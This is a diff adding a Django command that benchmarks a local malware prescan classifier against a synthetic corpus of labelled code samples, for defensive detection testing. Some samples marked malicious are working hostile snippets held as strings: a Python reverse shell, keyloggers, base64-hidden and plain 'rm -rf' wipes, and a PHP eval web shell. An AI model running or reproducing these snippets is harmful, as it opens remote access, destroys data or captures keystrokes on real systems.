@@ -0,0 +1,106 @@
+# projects/management/commands/bench_prescan.py
+import os
+import random
+import time
+from collections import Counter
+
+from django.core.management.base import BaseCommand
+
+from projects.prescan import DANGER, SAFE, UNSURE, prescan_text
+
+# Sintetik korpus: (kengaytma, yorliq, kod). Yorliq: 'benign' - oddiy loyiha, 'risky' - zararsiz,
+# lekin shubhali chaqiruvli (Gemini ko'rishi kerak), 'malicious' - zararli.
+SAMPLES = [
+    ('.py', 'benign', '''import requests\nTOKEN = "123:abc"\n\ndef send(chat_id, text):\n    url = f"https://api.telegram.org/bot{TOKEN}/sendMessage"\n    return requests.post(url, data={"chat_id": chat_id, "text": text}).json()\n'''),
+    ('.py', 'benign', '''from django.shortcuts import render\nfrom .models import Kitob\n\ndef kitoblar(request):\n    return render(request, "kitoblar.html", {"kitoblar": Kitob.objects.all()})\n'''),
+    ('.py', 'benign', '''def kalkulyator(a, b, amal):\n    if amal == "+":\n        return a + b\n    if amal == "/":\n        return a / b if b else None\n    return a * b\n\nprint(kalkulyator(2, 3, "+"))\n'''),
+    ('.py', 'risky', '''import os, tempfile\npath = os.path.join(tempfile.gettempdir(), "cache.txt")\nif os.path.exists(path):\n    os.remove(path)\n'''),
+    ('.py', 'risky', '''import subprocess\nprint(subprocess.check_output(["git", "log", "--oneline", "-5"]).decode())\n'''),
+    ('.py', 'malicious', '''import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("10.0.0.1", 4444))\nos.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\nsubprocess.call(["/bin/sh", "-i"])\n'''),
+    ('.py', 'malicious', '''from pynput import keyboard\nimport smtplib\nlog = []\ndef on_press(key):\n    log.append(str(key))\nwith keyboard.Listener(on_press=on_press) as listener:\n    listener.join()\n'''),
+    ('.py', 'malicious', '''import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk="))\n'''),
+    ('.py', 'malicious', '''import shutil\nshutil.rmtree("/", ignore_errors=True)\n'''),
+    ('.js', 'benign', '''document.querySelectorAll(".tab").forEach(t => t.addEventListener("click", () => {\n  t.classList.toggle("active");\n}));\nfetch("/api/feed/").then(r => r.json()).then(d => console.log(d.results.length));\n'''),
+    ('.js', 'risky', '''const { exec } = require("child_process");\nexec("npm run build", (err, out) => console.log(out));\n'''),
+    ('.js', 'malicious', '''require("child_process").execSync("rm -rf ~/ --no-preserve-root");\n'''),
+    ('.html', 'benign', '''<!DOCTYPE html>\n<html><head><title>Portfolio</title></head>\n<body><h1>Salom!</h1><p>Men dasturchiman.</p></body></html>\n'''),
+    ('.css', 'benign', '''.card { border-radius: 12px; padding: 16px; }\n.card:hover { transform: translateY(-2px); }\n'''),
+    ('.cpp', 'benign', '''#include <vector>\n#include <algorithm>\nint main() {\n    std::vector<int> v{3, 1, 2};\n    v.erase(std::remove(v.begin(), v.end(), 3), v.end());\n    std::sort(v.begin(), v.end());\n}\n'''),
+    ('.cpp', 'malicious', '''#include <windows.h>\nint main() {\n    while (true) for (int k = 8; k < 255; k++) if (GetAsyncKeyState(k) == -32767) log(k);\n}\n'''),
+    ('.java', 'benign', '''public class Main {\n    public static void main(String[] args) {\n        System.out.println("Salom, dunyo!");\n    }\n}\n'''),
+    ('.go', 'benign', '''package main\nimport "net/http"\nfunc main() {\n    http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) })\n    http.ListenAndServe(":8080", nil)\n}\n'''),
+    ('.dart', 'benign', '''import 'package:flutter/material.dart';\nvoid main() => runApp(const MaterialApp(home: Text('Salom')));\n'''),
+    ('.php', 'benign', '''<?php\n$ism = htmlspecialchars($_GET["ism"] ?? "mehmon");\necho "Salom, $ism!";\n'''),
+    ('.php', 'malicious', '''<?php @eval(base64_decode($_POST["x"])); ?>\n'''),
+]
+
+# Real fayllarga o'xshash hajm uchun har bir namunaga qo'shiladigan zararsiz "to'ldiruvchi" kod
+FILLER = {
+    '.py': 'def funksiya_{i}(x):\n    """Yordamchi funksiya."""\n    return [y * {i} for y in range(x) if y % 3]\n\n',
+    '.js': 'function funksiya{i}(x) {{ return [...Array(x).keys()].map(y => y * {i}); }}\n',
+    '.html': '<div class="item-{i}"><span>Element {i}</span></div>\n',
+    '.css': '.item-{i} {{ margin: {i}px; color: #333; }}\n',
+    '.cpp': 'int funksiya{i}(int x) {{ return x * {i} + 1; }}\n',
+    '.java': '    static int funksiya{i}(int x) {{ return x * {i}; }}\n',
+    '.go': 'func funksiya{i}(x int) int {{ return x * {i} }}\n',
+    '.dart': 'int funksiya{i}(int x) => x * {i};\n',
+    '.php': 'function funksiya{i}($x) {{ return $x * {i}; }}\n',
+}
+
+
+class Command(BaseCommand):
+    help = "Lokal oldindan skan (prescan.py) tezligi va Gemini chaqiruvlaridan qancha tejalishini o'lchaydi"
+
+    def add_arguments(self, parser):
+        parser.add_argument('--files', type=int, default=5000, help="Sintetik korpusdagi fayllar soni")
+        parser.add_argument('--filler', type=int, default=40, help="Har bir faylga qo'shiladigan funksiyalar (o'rtacha)")
+        parser.add_argument('--path', help="Sintetik korpus o'rniga shu katalogdagi fayllar (yorliqsiz)")
+        parser.add_argument('--seed', type=int, default=42)
+
+    def handle(self, *args, **options):
+        corpus = self._load(options['path']) if options['path'] else self._generate(options)
+        total_bytes = sum(len(text) for _, _, text in corpus)
+
+        verdicts, confusion = Counter(), Counter()
+        start = time.perf_counter()
+        for name, label, text in corpus:
+            verdict = prescan_text(text, name).verdict
+            verdicts[verdict] += 1
+            confusion[label, verdict] += 1
+        elapsed = time.perf_counter() - start
+
+        count = len(corpus)
+        avoided = verdicts[SAFE] + verdicts[DANGER]
+        self.stdout.write(f"Fayllar: {count}, hajm: {total_bytes / 1024 / 1024:.1f} MB, vaqt: {elapsed:.2f}s")
+        self.stdout.write(f"Tezlik: {count / elapsed:.0f} fayl/s, {total_bytes / 1024 / 1024 / elapsed:.1f} MB/s")
+        self.stdout.write(f"SAFE: {verdicts[SAFE]}, DANGER: {verdicts[DANGER]}, UNSURE: {verdicts[UNSURE]}")
+        self.stdout.write(self.style.SUCCESS(
+            f"Gemini chaqiruvlaridan tejaldi: {avoided}/{count} ({avoided / count * 100 if count else 0:.1f}%)"
+        ))
+        if not options['path']:
+            self.stdout.write(f"{'yorliq':>10} {'SAFE':>6} {'DANGER':>7} {'UNSURE':>7}")
+            for label in ('benign', 'risky', 'malicious'):
+                self.stdout.write(f"{label:>10} {confusion[label, SAFE]:>6} "
+                                  f"{confusion[label, DANGER]:>7} {confusion[label, UNSURE]:>7}")
+            missed = confusion['malicious', SAFE]
+            self.stdout.write(
+                (self.style.ERROR if missed else self.style.SUCCESS)(f"Zararli, lekin SAFE deb topilgan: {missed}")
+            )
+
+    def _generate(self, options):
+        rng = random.Random(options['seed'])
+        corpus = []
+        for n in range(options['files']):
+            ext, label, code = rng.choice(SAMPLES)
+            filler = ''.join(FILLER[ext].format(i=i) for i in range(rng.randint(0, options['filler'] * 2)))
+            corpus.append((f'fayl{n}{ext}', label, filler + code if n % 2 else code + filler))
+        return corpus
+
+    def _load(self, root):
+        corpus = []
+        for directory, _, names in os.walk(root):
+            for name in names:
+                path = os.path.join(directory, name)
+                with open(path, 'rb') as f:
+                    corpus.append((name, None, f.read().decode('utf-8', errors='ignore')))
+        return corpus